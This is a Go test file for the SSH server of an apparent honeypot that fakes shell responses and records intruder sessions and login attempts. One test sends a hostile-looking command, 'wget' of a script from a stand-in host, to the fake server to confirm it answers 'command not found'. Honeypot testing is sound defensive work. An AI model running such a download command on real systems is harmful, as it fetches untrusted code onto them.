// SPDX-License-Identifier: MPL-2.0

package sshserver

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/charmbracelet/log"
	gossh "golang.org/x/crypto/ssh"

	"github.com/lureworks/lure/internal/command"
	"github.com/lureworks/lure/internal/config"
	"github.com/lureworks/lure/internal/core/serverbase"
	"github.com/lureworks/lure/internal/issue"
	"github.com/lureworks/lure/internal/protocol"
	"github.com/lureworks/lure/internal/record"
	"github.com/lureworks/lure/internal/testutil"
)

type authEvent struct {
	service, method string
	accepted        bool
}

type authLog struct {
	mu     sync.Mutex
	events []authEvent
}

func (a *authLog) AuthAttempt(service, method string, accepted bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.events = append(a.events, authEvent{service, method, accepted})
}

func (a *authLog) Events() []authEvent {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.events)
}

type fixture struct {
	srv      *Server
	recorder *record.Memory
	auth     *authLog
}

func testRules(t *testing.T) *command.Set {
	t.Helper()
	rules, err := command.NewSet([]command.Spec{
		{Parser: `^uname( -a)?$`, Handler: "Linux web01 5.15.0-91-generic x86_64 GNU/Linux"},
		{Parser: `^id$`, Handler: "uid=0(root) gid=0(root) groups=0(root)"},
	})
	if err != nil {
		t.Fatalf("NewSet: %v", err)
	}
	return rules
}

func newServer(t *testing.T, settings map[string]any) fixture {
	t.Helper()

	f := fixture{recorder: record.NewMemory(), auth: &authLog{}}
	svc := config.Service{
		Name:     "web",
		Protocol: Kind,
		Address:  "127.0.0.1:0",
		Settings: settings,
	}
	srv, err := New(svc, protocol.Deps{
		Rules:    testRules(t),
		Recorder: f.recorder,
		Logger:   log.New(io.Discard),
		Auth:     f.auth,
	})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	f.srv = srv
	return f
}

func startServer(t *testing.T, settings map[string]any) fixture {
	t.Helper()

	f := newServer(t, settings)
	if err := f.srv.Start(t.Context()); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(testutil.DeferStop(t, f.srv))
	return f
}

func dial(t *testing.T, addr, user string, auth ...gossh.AuthMethod) (*gossh.Client, error) {
	t.Helper()
	return gossh.Dial("tcp", addr, &gossh.ClientConfig{
		User:            user,
		Auth:            auth,
		HostKeyCallback: gossh.InsecureIgnoreHostKey(), //nolint:gosec // test client
		Timeout:         5 * time.Second,
	})
}

func mustDial(t *testing.T, addr, user, password string) *gossh.Client {
	t.Helper()
	client, err := dial(t, addr, user, gossh.Password(password))
	if err != nil {
		t.Fatalf("dial %s: %v", addr, err)
	}
	t.Cleanup(func() { _ = client.Close() })
	return client
}

func exec(t *testing.T, client *gossh.Client, cmd string) (string, error) {
	t.Helper()
	sess, err := client.NewSession()
	if err != nil {
		t.Fatalf("NewSession: %v", err)
	}
	defer sess.Close()
	out, err := sess.CombinedOutput(cmd)
	return string(out), err
}

func TestServer_StartStop(t *testing.T) {
	t.Parallel()

	f := newServer(t, nil)
	if f.srv.State() != serverbase.StateCreated {
		t.Errorf("State should be Created, got %s", f.srv.State())
	}
	if f.srv.Addr() != "127.0.0.1:0" {
		t.Errorf("Addr() before Start = %q, want configured address", f.srv.Addr())
	}

	if err := f.srv.Start(t.Context()); err != nil {
		t.Fatalf("Start: %v", err)
	}
	if !f.srv.IsRunning() {
		t.Errorf("State should be Running, got %s", f.srv.State())
	}
	if _, port, _ := net.SplitHostPort(f.srv.Addr()); port == "0" || port == "" {
		t.Errorf("Addr() = %q, want a bound port", f.srv.Addr())
	}

	if err := f.srv.Stop(); err != nil {
		t.Fatalf("Stop: %v", err)
	}
	if f.srv.State() != serverbase.StateStopped {
		t.Errorf("State should be Stopped, got %s", f.srv.State())
	}
	select {
	case <-f.srv.Done():
	default:
		t.Error("Done() should be closed after Stop")
	}

	// Stop is idempotent.
	if err := f.srv.Stop(); err != nil {
		t.Errorf("second Stop() = %v, want nil", err)
	}
}

func TestServer_DoubleStart(t *testing.T) {
	t.Parallel()

	f := startServer(t, nil)
	if err := f.srv.Start(t.Context()); err == nil {
		t.Error("second Start() should fail")
	}
}

func TestServer_StopWithoutStart(t *testing.T) {
	t.Parallel()

	f := newServer(t, nil)
	if err := f.srv.Stop(); err != nil {
		t.Errorf("Stop without Start = %v, want nil", err)
	}
	if f.srv.State() != serverbase.StateStopped {
		t.Errorf("State should be Stopped, got %s", f.srv.State())
	}
}

func TestServer_StartWithCancelledContext(t *testing.T) {
	t.Parallel()

	f := newServer(t, nil)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()

	if err := f.srv.Start(ctx); err == nil {
		testutil.MustStop(t, f.srv)
		t.Fatal("Start with cancelled context should fail")
	}
	if f.srv.State() != serverbase.StateFailed {
		t.Errorf("State should be Failed, got %s", f.srv.State())
	}
}

func TestServer_StartWithUsedPort(t *testing.T) {
	t.Parallel()

	first := startServer(t, nil)

	svc := config.Service{Name: "clash", Protocol: Kind, Address: first.srv.Addr()}
	second, err := New(svc, protocol.Deps{Rules: testRules(t), Logger: log.New(io.Discard)})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	err = second.Start(t.Context())
	if err == nil {
		testutil.MustStop(t, second)
		t.Fatal("Start on a used address should fail")
	}
	if !strings.Contains(err.Error(), "service clash: listen on") {
		t.Errorf("error %q should name the service and the bind", err)
	}
	if second.State() != serverbase.StateFailed {
		t.Errorf("State should be Failed, got %s", second.State())
	}
}

func TestNew_Errors(t *testing.T) {
	t.Parallel()

	rules := testRules(t)

	if _, err := New(config.Service{Name: "x", Address: ":0"}, protocol.Deps{}); err == nil {
		t.Error("New without rules should fail")
	}

	_, err := New(config.Service{Name: "x", Address: ":0", Settings: map[string]any{"bogus": 1}},
		protocol.Deps{Rules: rules})
	if !errors.Is(err, ErrInvalidSettings) {
		t.Errorf("unknown setting: got %v, want ErrInvalidSettings", err)
	}

	_, err = New(config.Service{Name: "x", Address: ":0", Settings: map[string]any{"accept_all": false}},
		protocol.Deps{Rules: rules})
	if !errors.Is(err, ErrInvalidSettings) {
		t.Errorf("no credentials: got %v, want ErrInvalidSettings", err)
	}

	// A directory where the key file should be cannot be read as a key.
	_, err = New(config.Service{Name: "x", Address: ":0", Settings: map[string]any{"host_key": t.TempDir()}},
		protocol.Deps{Rules: rules})
	var actionable *issue.ActionableError
	if !errors.As(err, &actionable) {
		t.Fatalf("bad host key: got %v, want *issue.ActionableError", err)
	}
	if g := actionable.Guidance(); g == nil || g.Id() != issue.HostKeyFailedId {
		t.Errorf("bad host key should carry HostKeyFailedId guidance")
	}
}

func TestNew_PersistsHostKey(t *testing.T) {
	t.Parallel()

	path := filepath.Join(t.TempDir(), "keys", "ssh_host_ed25519")
	settings := map[string]any{"host_key": path}

	first := newServer(t, settings)
	if _, err := os.Stat(path); err != nil {
		t.Fatalf("host key should be written: %v", err)
	}
	second := newServer(t, settings)
	// The PEM encoding carries a random check value, so compare the keys.
	if !bytes.Equal(hostPublicKey(t, first.srv), hostPublicKey(t, second.srv)) {
		t.Error("an existing host key should be reused")
	}

	ephemeral := newServer(t, nil)
	if len(ephemeral.srv.hostKey) == 0 {
		t.Error("an empty host_key should still produce a key")
	}
}

func hostPublicKey(t *testing.T, srv *Server) []byte {
	t.Helper()
	signer, err := gossh.ParsePrivateKey(srv.hostKey)
	if err != nil {
		t.Fatalf("parse host key: %v", err)
	}
	return signer.PublicKey().Marshal()
}

func TestServer_Exec(t *testing.T) {
	t.Parallel()

	f := startServer(t, nil)
	client := mustDial(t, f.srv.Addr(), "root", "hunter2")

	out, err := exec(t, client, "uname -a")
	if err != nil {
		t.Fatalf("exec uname: %v", err)
	}
	if out != "Linux web01 5.15.0-91-generic x86_64 GNU/Linux\r\n" {
		t.Errorf("uname output = %q", out)
	}

	out, err = exec(t, client, "wget http://203.0.113.7/x.sh")
	var exitErr *gossh.ExitError
	if !errors.As(err, &exitErr) || exitErr.ExitStatus() != 127 {
		t.Fatalf("unmatched exec: err = %v, want exit status 127", err)
	}
	if out != "-bash: wget: command not found\r\n" {
		t.Errorf("not found output = %q", out)
	}
}

func TestServer_ExecRecordsTranscript(t *testing.T) {
	t.Parallel()

	f := startServer(t, nil)
	client := mustDial(t, f.srv.Addr(), "root", "hunter2")
	if _, err := exec(t, client, "id"); err != nil {
		t.Fatalf("exec id: %v", err)
	}

	ids := f.recorder.IDs()
	if len(ids) != 1 {
		t.Fatalf("recorded sessions = %v, want exactly one", ids)
	}
	var got []string
	for _, e := range f.recorder.Entries(ids[0]) {
		got = append(got, string(e.Direction)+" "+e.Data)
	}
	joined := strings.Join(got, "\n")
	for _, want := range []string{
		"meta open remote=127.0.0.1:",
		"user=root",
		"meta client version=SSH-2.0-Go",
		`meta auth method=password secret="hunter2"`,
		"in id",
		"out uid=0(root) gid=0(root) groups=0(root)\r\n",
	} {
		if !strings.Contains(joined, want) {
			t.Errorf("transcript missing %q:\n%s", want, joined)
		}
	}
}

func TestServer_Shell(t *testing.T) {
	t.Parallel()

	f := startServer(t, map[string]any{"prompt": "root@web01:~# "})
	client := mustDial(t, f.srv.Addr(), "root", "hunter2")

	sess, err := client.NewSession()
	if err != nil {
		t.Fatalf("NewSession: %v", err)
	}
	defer sess.Close()

	if err := sess.RequestPty("xterm-256color", 40, 80, gossh.TerminalModes{}); err != nil {
		t.Fatalf("RequestPty: %v", err)
	}
	var stdout bytes.Buffer
	sess.Stdout = &stdout
	sess.Stdin = strings.NewReader("id\nfoo bar\nexit\n")
	if err := sess.Shell(); err != nil {
		t.Fatalf("Shell: %v", err)
	}
	if err := sess.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}

	out := stdout.String()
	for _, want := range []string{
		"root@web01:~# id\r\nuid=0(root) gid=0(root) groups=0(root)\r\n",
		"root@web01:~# foo bar\r\n-bash: foo: command not found\r\n",
		"root@web01:~# exit\r\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("shell output missing %q, got %q", want, out)
		}
	}
}

func TestServer_PasswordAuth(t *testing.T) {
	t.Parallel()

	f := startServer(t, map[string]any{
		"accept_all":  false,
		"credentials": map[string]any{"root": []any{"toor"}},
	})

	if _, err := dial(t, f.srv.Addr(), "root", gossh.Password("wrong")); err == nil {
		t.Error("wrong password should be rejected")
	}
	client := mustDial(t, f.srv.Addr(), "root", "toor")
	if _, err := exec(t, client, "id"); err != nil {
		t.Errorf("exec after accepted password: %v", err)
	}

	events := f.auth.Events()
	if !slices.Contains(events, authEvent{"web", methodPassword, false}) {
		t.Errorf("rejected attempt not observed: %v", events)
	}
	if !slices.Contains(events, authEvent{"web", methodPassword, true}) {
		t.Errorf("accepted attempt not observed: %v", events)
	}
}

func TestServer_KeyboardInteractiveAuth(t *testing.T) {
	t.Parallel()

	f := startServer(t, map[string]any{
		"accept_all":  false,
		"credentials": map[string]any{"*": []any{"admin"}},
	})

	var prompts []string
	answer := gossh.KeyboardInteractive(func(_, _ string, questions []string, _ []bool) ([]string, error) {
		prompts = append(prompts, questions...)
		return []string{"admin"}, nil
	})
	client, err := dial(t, f.srv.Addr(), "pi", answer)
	if err != nil {
		t.Fatalf("keyboard-interactive dial: %v", err)
	}
	defer client.Close()

	if !slices.Equal(prompts, []string{"Password: "}) {
		t.Errorf("prompts = %q", prompts)
	}
	if !slices.Contains(f.auth.Events(), authEvent{"web", methodKeyboardInteractive, true}) {
		t.Errorf("keyboard-interactive attempt not observed: %v", f.auth.Events())
	}
}

func TestServer_PublicKeyAuth(t *testing.T) {
	t.Parallel()

	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatalf("GenerateKey: %v", err)
	}
	signer, err := gossh.NewSignerFromKey(priv)
	if err != nil {
		t.Fatalf("NewSignerFromKey: %v", err)
	}

	rejecting := startServer(t, nil)
	if _, err := dial(t, rejecting.srv.Addr(), "root", gossh.PublicKeys(signer)); err == nil {
		t.Error("public keys should be rejected by default")
	}
	if !slices.Contains(rejecting.auth.Events(), authEvent{"web", methodPublicKey, false}) {
		t.Errorf("rejected key not observed: %v", rejecting.auth.Events())
	}

	accepting := startServer(t, map[string]any{"accept_keys": true})
	client, err := dial(t, accepting.srv.Addr(), "root", gossh.PublicKeys(signer))
	if err != nil {
		t.Fatalf("accept_keys dial: %v", err)
	}
	_ = client.Close()
}

func TestServer_StopClosesSessions(t *testing.T) {
	t.Parallel()

	f := newServer(t, map[string]any{"shutdown_timeout": "100ms"})
	if err := f.srv.Start(t.Context()); err != nil {
		t.Fatalf("Start: %v", err)
	}
	client := mustDial(t, f.srv.Addr(), "root", "hunter2")

	sess, err := client.NewSession()
	if err != nil {
		t.Fatalf("NewSession: %v", err)
	}
	stdin, err := sess.StdinPipe()
	if err != nil {
		t.Fatalf("StdinPipe: %v", err)
	}
	defer stdin.Close()
	if err := sess.Shell(); err != nil {
		t.Fatalf("Shell: %v", err)
	}

	done := make(chan error, 1)
	go func() { done <- f.srv.Stop() }()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("Stop with an open session = %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Stop did not return with an open session")
	}

	if err := sess.Wait(); err == nil {
		t.Error("session should end abnormally when the server stops")
	}
}
